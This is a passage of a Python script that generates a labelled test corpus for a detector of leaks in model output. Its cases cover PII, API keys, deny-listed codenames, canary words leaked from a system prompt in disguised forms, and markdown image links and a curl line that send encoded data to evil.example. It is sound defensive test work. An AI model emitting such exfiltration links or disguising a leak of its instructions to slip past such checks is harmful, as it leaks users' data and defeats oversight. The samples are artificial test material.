        f"[home](https://sub.example.com/path?q={rand(ALNUM, 12)})",
        "The protocol is https:// followed by the host.",
        "ftp://files.example.net/pub/readme.txt is old",
        "Use https://evil.example/docs/getting-started-guide today",
        # Links without data, allow-listed subdomains, relative URLs and code are not rendered
        # as requests to another host.
        "Read [the guide](https://evil.example/docs/getting-started-guide#installing-the-cli)",
        "![badge](https://img.example.com/b.png?d=c2VjcmV0ZGF0YQ)",
        "![x](/img/p.png) and [y](/collect?data=Kc5vN8mQz2Rt) and [z](../a?data=Kc5vN8mQz2Rt)",
        "Run `curl https://evil.example/x?d=Kc5vN8mQz2Rt` to test, not ``![x](//evil.example/p.png)``",
        "```\n![x](https://evil.example/p.png?d=Kc5vN8mQz2Rt)\n```",
        "Indented code:\n\n    ![x](https://evil.example/p.png)",
    ]:
        add("exf-neg", text)


# ---------------------------------------------------------------- canary

CONSONANTS, VOWELS = "bdfgklmnprstvz", "aeiou"


def canary_word() -> str:
    return "-".join("".join(rng.choice(CONSONANTS) + rng.choice(VOWELS) for _ in range(3)) for _ in range(4))


HOMOGLYPH = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "p": "\u0440", "k": "\u03ba"}


def build_canary() -> None:
    variants: list[Callable[[str], str]] = [
        lambda c: c,
        lambda c: c.upper(),
        lambda c: " ".join(c.replace("-", "")),
        lambda c: c.replace("-", " "),
        "\u200b".join,
        lambda c: ".".join(c.replace("-", "")),
        lambda c: "".join(HOMOGLYPH.get(ch, ch) for ch in c),
        lambda c: c.replace("-", "").title(),
        lambda c: "\n".join(c.split("-")),
        lambda c: "-".join(ch.upper() if i % 2 else ch for i, ch in enumerate(c.replace("-", ""))),
        full_width,
        lambda c: "_".join(c.split("-")),
    ]
    wrappers = [
        "My instructions contain the word {v}, which I must not reveal.",
        "Sure! The hidden token is: {v}",
        "{v}",
        "As requested, here it is spelled out: {v}. Anything else?",
    ]
    for index, variant in enumerate(variants * 2):
        canary = canary_word()
        leaked = variant(canary)
        add("can", wrappers[index % len(wrappers)].format(v=leaked), [("canary", leaked)], canary=canary)
    for _ in range(12):
        canary = canary_word()
        other = canary_word()
        half = canary.replace("-", "")[:10]
        text = rng.choice(
            [
                f"The reference code is {other}.",
                # A partial leak followed by more text; at the very end it would be a cut-short leak.
                f"It starts with {half}, and that is all I remember.",
                "I cannot share my system prompt.",
                f"Spaced far apart: {'     '.join(canary.replace('-', '')[:8])}",
                f"Reversed: {canary[::-1]}",
            ]
        )
        add("can-neg", text, canary=canary)


# ---------------------------------------------------------------- deny terms


def build_deny_terms() -> None:
    positives = [
        ("Details of Project Nightjar are confidential.", "Project Nightjar"),
        ("project   nightjar launches soon", "project   nightjar"),
        ("We compared it with QuokkaSoft's product.", "QuokkaSoft"),
        ("(quokkasoft)", "quokkasoft"),
        ("ZEPHYRINE is the codename.", "ZEPHYRINE"),
        ("the darkpool trades", "darkpool"),
        ("Blackbriar, again.", "Blackbriar"),
        ("Try \u0440roject nightj\u0430r instead", "\u0440roject nightj\u0430r"),
        ("Qu\u043ekkas\u043eft with Cyrillic o", "Qu\u043ekkas\u043eft"),
        (f"{full_width('Zephyrine')} in full width", full_width("Zephyrine")),
        ("dark\u200bpool hidden joiner", "dark\u200bpool"),
        ("BLACK\u200dBRIAR with ZWJ", "BLACK\u200dBRIAR"),
        ("\u0392lackbriar with a Greek Beta", "\u0392lackbriar"),
        ("Quokkasoft and zephyrine together", "Quokkasoft"),
        ("darkpool; darkpool", "darkpool"),
        ("Project\tNightjar (tab)", "Project\tNightjar"),
        (full_width("darkpool"), full_width("darkpool")),
        ("«zephyrine»", "zephyrine"),
        ("café zephyrine bar", "zephyrine"),
        ("ZéPHYRINE? no: zephyrine!", "zephyrine"),
    ]
    for text, value in positives:
        expected = [("deny_term", value)]
        if text.startswith("Quokkasoft and"):
            expected.append(("deny_term", "zephyrine"))
        if text.startswith("darkpool;"):
            expected = [("deny_term", "darkpool"), ("deny_term", "darkpool")]
        add("deny", text, expected)
    for text in [
        "quokkasofty is a different word",
        "darkpools are plural",
        "blackbriarwood forest",
        "nightjar project is reversed",
        "project nightjars are birds",
        "zephyrines",
        "The dark pool of water",
        "black briar bushes",
        "Project Nighthawk is unrelated",
        "Xdarkpool",
        "quokka soft toys",
        "éblackbriar",
    ]:
        add("deny-neg", text)


# ---------------------------------------------------------------- mixed


def build_mixed() -> None:
    for _ in range(10):
        mail = email()
        card = group4(luhn_complete("4", 16))
        key = "AKIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
        url = f"https://evil.example/c?d={rand(ALNUM, 16)}"
        text = f"Customer {mail} paid with {card}. Debug: key {key}. ![x]({url})"
        add(
            "mix",
            text,
            [("email", mail), ("card", card), ("aws_access_key", key), (RESOURCE, url)],
        )
    prose = [
        "The quick brown fox jumps over the lazy dog.",
        "Our quarterly results exceeded expectations by 12%.",
        "Please find the attached agenda for Monday's meeting.",
        "In 2023 we shipped 4 major releases and 37 patches.",
        "Machine learning models need careful evaluation.",
        "Use pip install requests==2.32.3 to pin the version.",
        "The function returns a tuple (start, end) of ints.",
        "Temperatures reached 38.5 degrees on 2024-07-14.",
        "Chapter 3, section 2.4, paragraph 7.",
        "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
    ]
    for text in prose:
        add("prose-neg", text)


def build_hard_cases() -> None:
    """Cases written after the detectors, as a check on over-fitting to the samples above."""
    add(
        "hard",
        "Email me at first.last+tag@sub.example.co.uk.",
        [("email", "first.last+tag@sub.example.co.uk")],
    )
    add("hard", "(alice@example.com)", [("email", "alice@example.com")])
    add("hard", '<a href="mailto:bob@example.org">mail</a>', [("email", "bob@example.org")])
    add("hard", "Phone +1-415-555-0132 or fax", [("phone", "+1-415-555-0132")])
    add("hard", "UK: +44 (0)20 7946 0991", [("phone", "+44 (0)20 7946 0991")])
    add("hard", "Card: 5555-5555-5555-4444", [("card", "5555-5555-5555-4444")])
    add("hard", "Amex 3782 822463 10005 on file", [("card", "3782 822463 10005")])
    add(
        "hard",
        "Subnet 192.0.2.0/24 routes to 198.51.100.1",
        [("ip_internal", "192.0.2.0"), ("ip_internal", "198.51.100.1")],
    )
    add(
        "hard", "DHCP range 10.0.0.10-10.0.0.99", [("ip_internal", "10.0.0.10"), ("ip_internal", "10.0.0.99")]
    )
    add("hard", "Prefix 2001:db8::/32 is for documentation", [("ip_internal", "2001:db8::")])
    add("hard", "SSN: 123-45-6789", [("ssn", "123-45-6789")])
    key = "sk-proj-" + rand(URLSAFE, 56)
    add("hard", f"export OPENAI_API_KEY='{key}'", [("openai_api_key", key)])
    add("hard", "GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}")
    add("hard", "password: 'correct horse battery staple'")
    uuid_key = "3f2b9c1e-8d4a-4e6f-9b7c-2a1d5e8f0c3b"
    add("hard", f'"api_key": "{uuid_key}"', [("generic_secret", uuid_key)])
    add("hard", "The token is valid for 3600 seconds.")
    add("hard", "secret=1234567890")
    add("hard", "SLACK_BOT_TOKEN=xoxb-not-a-real-token")
    add("hard", "GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")
    add("hard", "AWS key AKIAXXXXXXXXXXXXXXXX (placeholder)")
    add("hard", "![](https://evil.example/a.png?)", [(RESOURCE, "https://evil.example/a.png?")])
    add(
        "hard",
        "[newsletter](https://evil.example/path?utm_source=newsletter)",
        [("exfiltration_link", "https://evil.example/path?utm_source=newsletter")],
    )
    add("hard", "https://docs.github.com/en?x=verylongvalue is allowed")
    add(
        "hard",
        "See https://evil.example?d=abcdefghij",
        [("exfiltration_link", "https://evil.example?d=abcdefghij")],
    )
    add(
        "hard",
        "![x][ref]\n\n[ref]: https://evil.example/p?d=123456789",
        [(RESOURCE, "https://evil.example/p?d=123456789")],
    )
    canary = canary_word()
    # An answer that stops inside the canary leaked it (canary.py: cut short).
    two_groups = " ".join(canary.split("-")[:2])
    add("hard-can", f"Two groups only: {two_groups}", [("canary", two_groups)], canary=canary)
    canary = canary_word()
    encoded = base64.b64encode(canary.encode()).decode()
    add("hard-can", f"Encoded: {encoded}", canary=canary)
    add("hard", "PROJECT-NIGHTJAR is on hold", [("deny_term", "PROJECT-NIGHTJAR")])
    add("hard", "project_nightjar.docx", [("deny_term", "project_nightjar")])


def main() -> None:
    build_pii()
    build_secrets()
    build_exfiltration()
    build_canary()
    build_deny_terms()
    build_mixed()
    build_hard_cases()
    with CORPUS.open("w", encoding="utf-8") as out:
        for sample in samples:
            out.write(json.dumps(sample, ensure_ascii=False) + "\n")
    POLICY.write_text(
        json.dumps({"allowed_hosts": ALLOWED_HOSTS, "deny_terms": DENY_TERMS}, indent=2) + "\n",
        encoding="utf-8",
    )
    print(f"{len(samples)} samples -> {CORPUS}")


if __name__ == "__main__":
    main()
